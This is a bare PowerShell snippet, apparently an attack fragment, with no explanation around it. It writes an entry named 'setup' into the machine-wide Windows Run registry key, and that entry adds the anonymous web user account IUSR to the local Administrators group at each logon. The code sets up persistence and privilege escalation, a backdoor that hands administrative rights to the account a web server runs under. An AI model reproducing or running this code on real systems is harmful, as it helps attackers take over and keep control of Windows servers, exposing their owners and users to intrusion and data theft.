$registry = [wmiclass]'root\default:StdRegProv'
[void]$registry.SetStringValue(2147483650, 'SOFTWARE\Microsoft\Windows\CurrentVersion\Run', 'setup', 'net localgroup Administrators IUSR /add')
